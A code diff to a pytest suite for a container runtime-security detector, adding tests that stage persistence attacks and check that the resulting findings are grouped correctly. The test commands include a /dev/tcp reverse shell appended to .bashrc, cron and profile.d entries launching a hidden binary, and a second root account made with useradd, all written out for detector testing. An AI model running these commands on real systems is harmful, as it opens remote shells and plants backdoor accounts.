@@ -8,6 +8,7 @@ real process record, where staging cannot control who the file source names.
 from __future__ import annotations
 
 import dataclasses
+import os
 import subprocess
 import time
 from collections.abc import Iterator
@@ -30,6 +31,7 @@ from detectors.finding import Finding
 pytestmark = pytest.mark.timeout(150)
 
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0wVHhW attacker@c2"
+PY = "/usr/bin/python3"
 TYPES = {sf.PERSISTENCE, sf.PRIVILEGE_ESCALATION, sf.DEFENSE_EVASION}
 
 
@@ -86,10 +88,8 @@ def test_persistence_and_privilege_files_vs_reading_them(task_env: TaskEnv, tmp_
     assert not [f for f in findings if f["type"] in TYPES and container_of(f) == "worker"], [
         context_of(f) for f in findings if container_of(f) == "worker"
     ]
-    # one finding per (file, operation), however many writes
-    keys = [
-        (f["type"], context_of(f)["filePath"], context_of(f)["fileOperation"]) for f in findings if f["type"] in TYPES
-    ]
+    # one finding per file, however many writes and operations (here each account file had its own writer)
+    keys = [(f["type"], context_of(f)["filePath"]) for f in findings if f["type"] in TYPES]
     assert len({f["id"] for f in findings if f["type"] in TYPES}) == len(set(keys))
     assert sidecar.stop() == 0
 
@@ -174,6 +174,7 @@ def run(events: list[RuntimeEvent]) -> list[dict[str, Any]]:
     )
     for e in events:
         engine.on_event(e)
+    engine.flush(force=True)  # account file changes are held back to be gathered into one finding
     for f in findings:
         Finding.model_validate(f)
     return findings
@@ -226,3 +227,132 @@ def test_every_category_has_its_type() -> None:
     categories |= {c for _, rule in files.WATCHED for _, c in rule.prefixes}
     handled_elsewhere = {"binary_dir", "docker_socket", "release_agent"}
     assert categories - handled_elsewhere == set(sf.TYPE_OF_CATEGORY), categories
+
+
+def test_shell_profiles_new_cron_dirs_and_accounts_vs_service_users(task_env: TaskEnv, tmp_path: Path) -> None:
+    # slim images: no /var/spool at all when the sidecar starts, in either container
+    for c in ("app", "worker"):
+        ok(task_env, c, "rm -rf /var/spool /etc/profile.d; test ! -e /var/spool")
+    sidecar = task_env.start_detecting(tmp_path)
+    # benign, in "worker": profiles read and sourced by a login shell, service users and groups made the way
+    # entry points make them, an unrelated spool directory appearing
+    ok(task_env, "worker", "cat /etc/profile /etc/bash.bashrc >/dev/null 2>&1; bash -lc 'true'; bash -ic 'true'")
+    ok(task_env, "worker", "useradd -r -M -s /usr/sbin/nologin svc && groupadd --system svcgrp")
+    ok(task_env, "worker", "useradd --system --no-create-home appuser && grep -q '^appuser:' /etc/passwd")
+    ok(task_env, "worker", "mkdir -p /var/spool/mail/x && echo hi > /var/spool/mail/x/m")
+    # the attacks, in "app"
+    bashrc = "echo 'nohup bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\" &' >> ~/.bashrc"
+    ok(task_env, "app", bashrc)
+    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/root/.bashrc"), timeout=20))
+    assert f["severity"] == 5.0 and container_of(f) == "app"
+    assert context_of(f)["category"] == "shell_profile" and context_of(f)["fileOperation"] in ("create", "write")
+    ok(task_env, "app", "mkdir -p /etc/profile.d && echo '/tmp/.x &' > /etc/profile.d/sys.sh")
+    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/profile.d/sys.sh"), timeout=15))
+    assert context_of(f)["category"] == "shell_profile" and container_of(f) == "app"
+    cron = (
+        "import os; os.makedirs('/var/spool/cron/crontabs', exist_ok=True); "
+        "open('/var/spool/cron/crontabs/root','a').write('@reboot /tmp/.x\\n')"
+    )
+    ok(task_env, "app", f'{PY} -c "{cron}"')
+    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/var/spool/cron/crontabs/root"), timeout=15))
+    assert context_of(f)["category"] == "cron" and container_of(f) == "app"
+    # a root account: one finding for the four files useradd rewrites
+    ok(task_env, "app", "useradd -o -u 0 -M -s /bin/sh toor")
+    f = valid(sidecar.wait_for_finding(lambda f: f["type"] == sf.PERSISTENCE and "/etc/shadow" in accounts(f), 20))
+    assert container_of(f) == "app" and f["severity"] == 5.0
+    assert set(accounts(f)) == {"/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow"}, context_of(f)
+    assert context_of(f)["category"] in ("passwd", "shadow")
+    # a file created, written and chmodded: one finding
+    ok(
+        task_env,
+        "app",
+        "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/.x' > /etc/cron.d/x && sleep 1.2 && chmod 644 /etc/cron.d/x",
+    )
+    valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/cron.d/x"), timeout=15))
+
+    time.sleep(3)
+    assert sidecar.stop() == 0
+    findings = sidecar.findings()
+    worker = [context_of(f) for f in findings if f["type"] in TYPES and container_of(f) == "worker"]
+    assert not worker, worker
+    app = [f for f in findings if f["type"] in TYPES and container_of(f) == "app"]
+    by_file: dict[str, set[str]] = {}
+    for f in app:
+        by_file.setdefault(context_of(f)["filePath"], set()).add(f["id"])
+    assert len(by_file["/etc/cron.d/x"]) == 1, by_file
+    last = [f for f in app if context_of(f)["filePath"] == "/etc/cron.d/x"][-1]
+    assert last["service"]["count"] >= 2  # the chmod counted on the same finding (emitted at stop)
+    # the spool directory made on the way is not a crontab
+    assert "/var/spool/cron/crontabs" not in by_file, by_file
+    account_ids = {
+        f["id"]
+        for f in app
+        if context_of(f)["filePath"] in ("/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow")
+    }
+    assert len(account_ids) == 1, [context_of(f) for f in app]
+    # the sidecar saw the worker's account changes and spool directory: they reached the detector
+    events = sidecar.events()
+    seen = {e["filePath"] for e in events if e["kind"] == "file.modify" and e.get("containerName") == "worker"}
+    assert "/etc/passwd" in seen, seen
+
+
+def accounts(f: dict[str, Any]) -> list[str]:
+    c = context_of(f)
+    return [c.get("filePath"), *(c.get("filePaths") or [])]
+
+
+def test_which_account_tools_make_a_service_user(process: ProcessInfo) -> None:
+    def tool(exe: str, cmd: str) -> ProcessInfo:
+        name = os.path.basename(cmd.split(maxsplit=1)[0])
+        return dataclasses.replace(process, name=name, executable_path=exe, command_line=cmd, _json=None)
+
+    service = [
+        tool("/usr/sbin/useradd", "useradd -r -M -s /usr/sbin/nologin app"),
+        tool("/usr/sbin/useradd", "/usr/sbin/useradd -rm app"),
+        tool("/usr/sbin/useradd", "useradd --system --uid 999 app"),
+        tool("/usr/sbin/groupadd", "groupadd --system app"),
+        tool("/usr/bin/perl", "/usr/bin/perl /usr/sbin/adduser --system --group app"),
+        tool("/bin/busybox", "adduser -S -D -H app"),
+        tool("/bin/busybox", "addgroup -S app"),
+    ]
+    for p in service:
+        assert sf.creates_system_account(p), p.command_line
+    not_service = [
+        tool("/usr/sbin/useradd", "useradd -m bob"),  # a login account
+        tool("/usr/sbin/useradd", "useradd -r -o -u 0 toor"),  # a second root
+        tool("/usr/sbin/useradd", "useradd -r -u0 toor"),
+        tool("/usr/sbin/useradd", "useradd --system --uid=0 toor"),
+        tool("/usr/sbin/useradd", "useradd -r -G sudo,users app"),
+        tool("/usr/sbin/useradd", "useradd -r -g 0 app"),
+        tool("/usr/sbin/usermod", "usermod -aG wheel app"),
+        tool("/tmp/useradd", "useradd -r app"),  # a payload named like the tool
+        tool("/bin/busybox", "sh -c useradd -r app"),
+        tool("/usr/bin/python3", "python3 -c useradd -r"),
+    ]
+    for p in not_service:
+        assert not sf.creates_system_account(p), p.command_line
+    assert not sf.creates_system_account(None)
+    # through the detector: the service user's account writes are silent, a root account's one finding
+    files = ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")
+    writes = [
+        event(service[0], category="passwd", filePath=f, fileOperation=op) for f in files for op in ("write", "rename")
+    ]
+    assert run(writes) == []
+    evil = not_service[1]
+    found = run(
+        [event(evil, category="passwd", filePath=f, fileOperation=op) for f in files for op in ("write", "rename")]
+    )
+    assert len({f["id"] for f in found}) == 1, [context_of(f) for f in found]
+    c = context_of(found[-1])
+    assert c["filePath"] == "/etc/passwd" and c["filePaths"] == ["/etc/shadow", "/etc/group", "/etc/gshadow"]
+    assert found[-1]["service"]["count"] == 8
+    # repeats of other operations on one file: one finding, counted
+    cron = [
+        event(process, category="cron", filePath="/etc/cron.d/x", fileOperation=op)
+        for op in ("create", "write", "attribute")
+    ]
+    found = run(cron)
+    assert len({f["id"] for f in found}) == 1 and found[-1]["service"]["count"] == 3
+    assert run([event(process, category="cron", filePath="/var/spool/cron/crontabs", fileOperation="create")]) == []
+    (f,) = run([event(process, category="shell_profile", filePath="/etc/profile.d/sys.sh", fileOperation="create")])
+    assert f["type"] == sf.PERSISTENCE and context_of(f)["category"] == "shell_profile"
